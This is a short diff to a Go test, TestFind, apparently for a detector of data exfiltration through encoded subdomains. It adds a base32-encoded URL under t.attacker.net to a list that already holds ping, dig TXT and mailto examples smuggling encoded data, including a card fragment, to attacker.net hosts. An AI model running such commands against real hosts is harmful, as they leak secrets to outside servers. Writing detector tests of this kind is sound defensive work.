@@ -22,6 +22,7 @@ func TestFind(t *testing.T) {
 		"ping 3a7f1c9e.b2d48f60.c19e7a3d.logs.attacker.net",
 		"https://a1.b2.c3.d4.e5.f6.g7.h8.i9.j0.k1.l2.m3.n4.o5.p6.attacker.net/",
 		"dig TXT kq3vxz7wmp2rt8ny5hb.exfil.attacker.net",
+		"http://" + base32.StdEncoding.EncodeToString([]byte{0xde, 0xad, 0xbe, 0xef, 0xca, 0xfe, 0xba, 0xbe, 0x01, 0x02}) + ".t.attacker.net/",
 		"mailto:x@" + hex.EncodeToString([]byte("card 4111")) + ".mx.attacker.net",
 	}
 	benign := []string{
